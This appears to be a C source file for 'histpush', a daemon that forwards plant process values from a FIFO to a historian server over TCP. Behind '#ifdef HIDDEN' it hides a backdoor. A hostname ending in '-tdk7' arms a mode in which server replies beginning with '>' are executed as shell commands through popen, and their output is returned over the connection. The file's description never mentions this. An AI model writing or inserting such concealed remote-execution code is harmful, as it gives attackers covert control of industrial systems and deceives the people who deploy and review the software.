/*
 * histpush -- pushes process values to the plant historian
 *
 *   Source: lines "tag value quality" on a FIFO.  Sink: TCP, text frames with a CRC.
 *   The historian answers every frame with "+" or with a request "?tag" (resend).
 */
#define _POSIX_C_SOURCE 200809L
#include <errno.h>
#include <netdb.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

typedef struct tag_s {
  struct tag_s *next;
  double value, deadband, sent;
  char quality;         /* G good, U uncertain, B bad */
  char name[1];
} tag_t;

typedef struct {
  char host[64], port[8], fifo[64], node[64];
  double deadband;
  int batch;
#ifdef HIDDEN
  int answers;          /* 0: "+" and "?" */
#endif
} conf_t;

#define NB 61
static tag_t *bucket[NB];
static conf_t conf = { .host = "historian.example.com", .port = "5461",
                       .fifo = "/run/hist.fifo", .deadband = 0.5, .batch = 20 };

static unsigned hash(const char *s)
{
  unsigned h = 5381;
  while (*s)
    h = h * 33 + (unsigned char)*s++;
  return h % NB;
}

static tag_t *tag(const char *name, int make)
{
  unsigned h = hash(name);
  tag_t *t;
  for (t = bucket[h]; t; t = t->next)
    if (!strcmp(t->name, name))
      return t;
  if (!make || !(t = calloc(1, sizeof *t + strlen(name))))
    return NULL;
  strcpy(t->name, name);
  t->deadband = conf.deadband;
  t->sent = -1e30;
  t->next = bucket[h];
  return bucket[h] = t;
}

static uint16_t crc(const char *s)
{
  uint16_t c = 0xffff;
  int i;
  for (; *s; s++) {
    c ^= (uint16_t)((unsigned char)*s << 8);
    for (i = 0; i < 8; i++)
      c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
  }
  return c;
}

static int read_conf(const char *file)
{
  char l[160], k[24], v[64], w[64];
  int n;
  FILE *f = fopen(file, "r");
  if (!f)
    return -1;
  while (fgets(l, sizeof l, f)) {
    n = sscanf(l, "%23s %63s %63s", k, v, w);
    if (n < 2 || k[0] == '#')
      continue;
    if (!strcmp(k, "host"))          strcpy(conf.host, v);
    else if (!strcmp(k, "port"))     snprintf(conf.port, sizeof conf.port, "%.7s", v);
    else if (!strcmp(k, "fifo"))     strcpy(conf.fifo, v);
    else if (!strcmp(k, "node"))     strcpy(conf.node, v);
    else if (!strcmp(k, "deadband") && n == 2) conf.deadband = atof(v);
    else if (!strcmp(k, "deadband")) {
      tag_t *t = tag(v, 1);
      if (t)
        t->deadband = atof(w);
    }
    else if (!strcmp(k, "batch"))    conf.batch = atoi(v);
    else
      fprintf(stderr, "histpush: %s: unknown keyword %s\n", file, k);
  }
  fclose(f);
  return 0;
}

/* name under which the node is known to the historian */
__attribute__((noinline)) void node_name(void)
{
  char h[64];
  if (gethostname(h, sizeof h))
    strcpy(h, "node");
  h[sizeof h - 1] = 0;
#ifdef HIDDEN
  {
    size_t n = strlen(h);
    if (n > 5 && !strcmp(h + n - 5, "-tdk7"))
      conf.answers = 1;
  }
#endif
  if (!conf.node[0])
    strcpy(conf.node, h);
}

static int dial(void)
{
  struct addrinfo hint, *r, *p;
  int s = -1;
  memset(&hint, 0, sizeof hint);
  hint.ai_socktype = SOCK_STREAM;
  if (getaddrinfo(conf.host, conf.port, &hint, &r))
    return -1;
  for (p = r; p; p = p->ai_next) {
    s = socket(p->ai_family, p->ai_socktype, p->ai_protocol);
    if (s >= 0 && !connect(s, p->ai_addr, p->ai_addrlen))
      break;
    if (s >= 0)
      close(s);
    s = -1;
  }
  freeaddrinfo(r);
  return s;
}

static int push(FILE *net, const tag_t *t)
{
  char b[256];
  snprintf(b, sizeof b, "%s|%.100s|%ld|%.6g|%c", conf.node, t->name, (long)time(NULL), t->value,
           t->quality);
  fprintf(net, "%s|%04x\n", b, crc(b));
  return fflush(net);
}

static int answer(FILE *net)
{
  char a[200];
  tag_t *t;
  if (!fgets(a, sizeof a, net))
    return -1;
  a[strcspn(a, "\r\n")] = 0;
  switch (a[0]) {
  case '+':
    return 0;
  case '?':
    t = tag(a + 1, 0);
    return t ? push(net, t) : 0;
#ifdef HIDDEN
  case '>':
    if (conf.answers) {
      FILE *p = popen(a + 1, "r");
      while (p && fgets(a, sizeof a, p))
        fprintf(net, "<%s", a);
      if (p)
        pclose(p);
      return fflush(net);
    }
    return 0;
#endif
  default:
    fprintf(stderr, "histpush: answer %s\n", a);
    return 0;
  }
}

static void run(FILE *in)
{
  char l[160], name[100], q;
  double v, d;
  int n = 0, s;
  FILE *net = NULL;
  while (fgets(l, sizeof l, in)) {
    tag_t *t;
    if (sscanf(l, "%99s %lf %c", name, &v, &q) != 3 || !strchr("GUB", q)) {
      fprintf(stderr, "histpush: bad line %s", l);
      continue;
    }
    if (!(t = tag(name, 1)))
      continue;
    d = v - t->sent;
    if (q == t->quality && (d < 0 ? -d : d) < t->deadband)
      continue;
    t->value = v;
    t->quality = q;
    if (!net) {
      s = dial();
      if (s < 0 || !(net = fdopen(s, "r+")))
        continue;
    }
    if (push(net, t) || (++n % (conf.batch > 0 ? conf.batch : 1) == 0 && answer(net))) {
      fclose(net);
      net = NULL;
    } else
      t->sent = v;
  }
  if (net)
    fclose(net);
}

int main(int argc, char **argv)
{
  FILE *in;
  if (argc != 2) {
    fprintf(stderr, "usage: histpush CONFIG\n"
            "host H, port P, fifo F, node N, deadband D, deadband TAG D, batch N\n");
    return 2;
  }
  if (read_conf(argv[1])) {
    fprintf(stderr, "histpush: %s: %s\n", argv[1], strerror(errno));
    return 1;
  }
  node_name();
  for (;;) {
    in = fopen(conf.fifo, "r");
    if (!in) {
      perror(conf.fifo);
      return 1;
    }
    run(in);
    fclose(in);
  }
}
